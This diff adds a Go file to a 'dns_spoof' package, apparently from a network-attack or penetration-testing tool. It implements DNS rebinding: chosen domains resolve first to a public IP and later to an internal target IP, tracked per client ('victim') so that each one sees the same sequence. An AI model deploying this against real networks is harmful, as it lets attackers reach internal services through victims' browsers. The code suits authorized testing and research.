@@ -0,0 +1,94 @@
+package dns_spoof
+
+import (
+	"net"
+	"sync"
+	"time"
+)
+
+const (
+	// switch between the public and the target address every After answers
+	RebindAlternate = "alternate"
+	// answer with the public address After times, then with the target one
+	RebindSwitch = "switch"
+)
+
+type rebindState struct {
+	answers int
+	last    time.Time
+}
+
+// Rebinder resolves its domains to a public address first and to an internal
+// target address later, tracking the answers sent to every client and domain
+// separately so that each victim sees the same sequence.
+type Rebinder struct {
+	sync.Mutex
+	Hosts  Hosts
+	Public net.IP
+	Target net.IP
+	Mode   string
+	After  int
+	TTL    uint32
+	Reset  time.Duration
+
+	clients map[string]*rebindState
+}
+
+func NewRebinder(domains []string, public, target net.IP, mode string, after int, ttl uint32, reset time.Duration) *Rebinder {
+	r := &Rebinder{
+		Hosts:   Hosts{},
+		Public:  public,
+		Target:  target,
+		Mode:    mode,
+		After:   after,
+		TTL:     ttl,
+		Reset:   reset,
+		clients: make(map[string]*rebindState),
+	}
+
+	for _, domain := range domains {
+		r.Hosts = append(r.Hosts, NewHostEntry(domain, public))
+	}
+
+	return r
+}
+
+// Resolve returns the address to answer the client with for host and the
+// answer number, or nil if host is not a rebinding domain.
+func (r *Rebinder) Resolve(client, host string) (net.IP, int) {
+	if r.Hosts.Resolve(host) == nil {
+		return nil, 0
+	}
+
+	r.Lock()
+	defer r.Unlock()
+
+	now := time.Now()
+	key := client + "/" + host
+	state, found := r.clients[key]
+	if !found || now.Sub(state.last) > r.Reset {
+		// start over so the test can be repeated, and forget the idle clients
+		for k, s := range r.clients {
+			if now.Sub(s.last) > r.Reset {
+				delete(r.clients, k)
+			}
+		}
+		state = &rebindState{}
+		r.clients[key] = state
+	}
+
+	state.last = now
+	state.answers++
+
+	rebound := false
+	if r.Mode == RebindSwitch {
+		rebound = state.answers > r.After
+	} else {
+		rebound = ((state.answers-1)/r.After)%2 == 1
+	}
+
+	if rebound {
+		return r.Target, state.answers
+	}
+	return r.Public, state.answers
+}